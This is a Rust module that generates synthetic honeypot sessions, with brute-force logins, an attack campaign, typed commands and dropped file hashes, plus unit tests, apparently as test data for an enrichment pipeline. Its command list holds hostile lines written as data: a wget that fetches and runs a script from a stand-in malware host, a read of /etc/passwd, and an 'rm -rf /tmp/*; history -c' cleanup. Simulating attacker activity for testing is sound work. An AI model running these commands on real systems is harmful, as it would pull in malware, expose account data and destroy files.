//! One generated session: who came, when, what was tried, typed and dropped. A session is a function of the plan
//! and its number, so each table is written in its own pass and nothing but the plan is held in memory.

use super::addresses::{self, Address};
use super::passwords::{self, sha256_hex};
use super::Size;
use rand::rngs::ChaCha8Rng;
use rand::{RngExt, SeedableRng};
use rand_distr::{Distribution, Zipf};

pub(super) const STREAM_ADDRESSES: u64 = 1;
pub(super) const STREAM_PASSWORDS: u64 = 2;
pub(super) const STREAM_KEYS: u64 = 3;
/// Session n draws from stream `STREAM_SESSIONS + n`.
const STREAM_SESSIONS: u64 = 1_000;

const DAY: i64 = 86_400;
/// Sessions lie in the past so many days.
const PERIOD: i64 = 60 * DAY;
/// The campaign: share of sessions, share of addresses, its days (one seen: 161 K sessions over 10 K addresses).
const CAMPAIGN_SESSIONS: f64 = 0.10;
const CAMPAIGN_ADDRESSES: f64 = 0.03;
const CAMPAIGN_START: i64 = 21 * DAY;
const CAMPAIGN_LENGTH: i64 = 3 * DAY;
/// Sessions without a source address, and those that drop a file.
const NULL_ADDRESS: f64 = 0.004;
const DROPS_FILE: f64 = 0.04;

const USERS: &[&str] = &["root", "admin", "ubuntu", "pi", "user", "test", "oracle", "postgres", "guest", "support"];
const COMMANDS: &[&str] = &[
    "uname -a",
    "cat /proc/cpuinfo | grep name | wc -l",
    "free -m",
    "w",
    "crontab -l",
    "cd /tmp; wget http://malware.invalid/bins.sh; sh bins.sh",
    "cat /etc/passwd",
    "ls -la /var/run",
    "echo -e \"\\x6F\\x6B\"",
    "rm -rf /tmp/*; history -c",
];

/// What stood in `enrichment` before this extension came.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Prior {
    Nothing,
    EmptyObject,
    NullMember,
    PasswordStats,
}

pub(super) struct Login {
    pub(super) user: &'static str,
    /// Index into `Plan::passwords`.
    pub(super) password: usize,
    pub(super) success: bool,
    pub(super) at: i64,
}

/// Times are seconds since 1970.
pub(super) struct Session {
    pub(super) id: String,
    /// Index into `Plan::addresses`.
    pub(super) address: Option<usize>,
    pub(super) first: i64,
    pub(super) last: i64,
    pub(super) logins: Vec<Login>,
    pub(super) commands: Vec<(i64, &'static str)>,
    /// Indexes into `Plan::hashes`, distinct.
    pub(super) downloads: Vec<usize>,
    pub(super) prior: Prior,
    pub(super) risk: u8,
}

/// Everything sessions choose from.
pub(super) struct Plan {
    pub(super) size: Size,
    pub(super) addresses: Vec<Address>,
    pub(super) passwords: Vec<String>,
    pub(super) hashes: Vec<String>,
    now: i64,
    campaign: usize,
    /// The probability that a session past the first `addresses` belongs to the campaign.
    campaign_chance: f64,
    rank_address: Zipf<f64>,
    rank_password: Zipf<f64>,
    rank_hash: Zipf<f64>,
}

impl Plan {
    /// `now`: seconds since 1970, the end of the period.
    pub(super) fn new(size: &Size, now: i64) -> Plan {
        let sessions = size.sessions;
        let size = Size {
            addresses: size.addresses.min(sessions),
            files: size.files.min(sessions),
            passwords: size.passwords.min(sessions),
            ..*size
        };
        let campaign = (size.addresses as f64 * CAMPAIGN_ADDRESSES).ceil() as usize;
        let free = (sessions - size.addresses).max(1) as f64;
        let campaign_chance = ((sessions as f64 * CAMPAIGN_SESSIONS - campaign as f64) / free).clamp(0.0, 1.0);
        Plan {
            addresses: addresses::generate(size.addresses, size.seed),
            passwords: passwords::generate(size.passwords, size.seed),
            hashes: (0..size.files).map(|n| sha256_hex(&format!("file-{}-{n}", size.seed))).collect(),
            now,
            campaign,
            campaign_chance,
            rank_address: zipf(size.addresses - campaign, 0.8),
            rank_password: zipf(size.passwords, 1.0),
            rank_hash: zipf(size.files, 0.9),
            size,
        }
    }

    /// Session number `n`, `0..size.sessions`.
    pub(super) fn session(&self, n: usize) -> Session {
        let mut rng = ChaCha8Rng::seed_from_u64(self.size.seed);
        rng.set_stream(STREAM_SESSIONS + n as u64);
        let address = self.address(n, &mut rng);
        let in_campaign = address.is_some_and(|a| a < self.campaign);
        let (start, length) = if in_campaign { (CAMPAIGN_START, CAMPAIGN_LENGTH) } else { (PERIOD, PERIOD) };
        let duration = rng.random_range(1..600);
        let first = self.now - start + rng.random_range(0..length - duration);
        let last = first + duration;
        let logins = self.logins(n, &mut rng, first, last, in_campaign);
        let inside = logins.last().is_some_and(|login| login.success);
        let typed = if inside { rng.random_range(0..=8) } else { 0 };
        let mut commands: Vec<(i64, &'static str)> = (0..typed)
            .map(|_| (rng.random_range(first..=last), COMMANDS[rng.random_range(0..COMMANDS.len())]))
            .collect();
        commands.sort_by_key(|(at, _)| *at);
        Session {
            id: format!("{:012x}", rng.random::<u64>() >> 16),
            address,
            first,
            last,
            logins,
            commands,
            downloads: self.downloads(n, &mut rng, in_campaign),
            prior: match rng.random_range(0..100) {
                0 | 1 => Prior::EmptyObject,
                2 => Prior::NullMember,
                3..=7 => Prior::PasswordStats,
                _ => Prior::Nothing,
            },
            risk: rng.random_range(0..=100),
        }
    }

    /// The first sessions bring each address once, the rest follow the tail.
    fn address(&self, n: usize, rng: &mut ChaCha8Rng) -> Option<usize> {
        if n < self.addresses.len() {
            return Some(n);
        }
        if self.addresses.is_empty() || rng.random_bool(NULL_ADDRESS) {
            return None;
        }
        if self.campaign == self.addresses.len() || rng.random_bool(self.campaign_chance) {
            return Some(rng.random_range(0..self.campaign));
        }
        Some(self.campaign + draw(&self.rank_address, rng))
    }

    /// One to five attempts with rising times; only the last may succeed. A campaign tries the commonest password.
    fn logins(&self, n: usize, rng: &mut ChaCha8Rng, first: i64, last: i64, in_campaign: bool) -> Vec<Login> {
        if self.passwords.is_empty() {
            return Vec::new();
        }
        let attempts = if in_campaign { 1 } else { rng.random_range(1..=5) };
        (0..attempts)
            .map(|attempt| Login {
                user: USERS[rng.random_range(0..USERS.len() * 2).saturating_sub(USERS.len())],
                password: match attempt {
                    0 if n < self.passwords.len() => n,
                    _ if in_campaign => 0,
                    _ => draw(&self.rank_password, rng),
                },
                success: attempt + 1 == attempts && rng.random_bool(0.4),
                at: first + (last - first) * (attempt + 1) / (attempts + 1),
            })
            .collect()
    }

    /// The last sessions bring each file once; a campaign drops one of three.
    fn downloads(&self, n: usize, rng: &mut ChaCha8Rng, in_campaign: bool) -> Vec<usize> {
        let mut files = Vec::new();
        let from_end = self.size.sessions - 1 - n;
        if from_end < self.hashes.len() {
            files.push(from_end);
        }
        if !self.hashes.is_empty() && rng.random_bool(DROPS_FILE) {
            let file = match in_campaign {
                true => rng.random_range(0..self.hashes.len().min(3)),
                false => draw(&self.rank_hash, rng),
            };
            if !files.contains(&file) {
                files.push(file);
            }
        }
        files
    }
}

fn zipf(count: usize, exponent: f64) -> Zipf<f64> {
    Zipf::new(count.max(1) as f64, exponent).expect("a count of at least 1 and a fixed exponent")
}

/// A rank from 0.
fn draw(zipf: &Zipf<f64>, rng: &mut ChaCha8Rng) -> usize {
    zipf.sample(rng) as usize - 1
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::{HashMap, HashSet};

    #[test]
    fn sessions_are_a_function_of_seed_and_number() {
        let plan = Plan::new(&Size::demo(), 1_700_000_000);
        let ids: HashSet<String> = (0..plan.size.sessions).map(|n| plan.session(n).id).collect();
        assert_eq!(ids.len(), plan.size.sessions);
        assert_eq!(plan.session(17).id, Plan::new(&Size::demo(), 1_700_000_000).session(17).id);
        let other = Size { seed: 8, ..Size::demo() };
        assert_ne!(plan.session(17).id, Plan::new(&other, 1_700_000_000).session(17).id);
    }

    #[test]
    fn sessions_use_every_address_password_and_file() {
        let plan = Plan::new(&Size::demo(), 1_700_000_000);
        let mut addresses = HashSet::new();
        let mut used = HashSet::new();
        let mut dropped = HashSet::new();
        for session in (0..plan.size.sessions).map(|n| plan.session(n)) {
            addresses.extend(session.address);
            used.extend(session.logins.iter().map(|login| login.password));
            dropped.extend(session.downloads);
        }
        assert_eq!((addresses.len(), used.len(), dropped.len()), (1_000, 500, 200));
    }

    #[test]
    fn sessions_have_a_campaign_and_a_heavy_tail() {
        let size = Size { sessions: 50_000, addresses: 10_000, ..Size::demo() };
        let plan = Plan::new(&size, 1_700_000_000);
        let mut per_address: HashMap<usize, usize> = HashMap::new();
        for address in (0..size.sessions).filter_map(|n| plan.session(n).address) {
            *per_address.entry(address).or_default() += 1;
        }
        let campaign: usize = per_address.iter().filter(|(a, _)| **a < plan.campaign).map(|(_, n)| n).sum();
        let share = campaign as f64 / size.sessions as f64;
        assert!((0.09..0.11).contains(&share), "{share}");
        let top = per_address.values().max().copied().unwrap_or(0);
        assert!((200..5_000).contains(&top), "{top}");
    }

    #[test]
    fn sessions_lie_in_the_past_sixty_days() {
        let now = 1_700_000_000;
        let plan = Plan::new(&Size::demo(), now);
        for session in (0..plan.size.sessions).map(|n| plan.session(n)) {
            assert!(now - PERIOD <= session.first && session.first < session.last && session.last <= now);
        }
    }
}
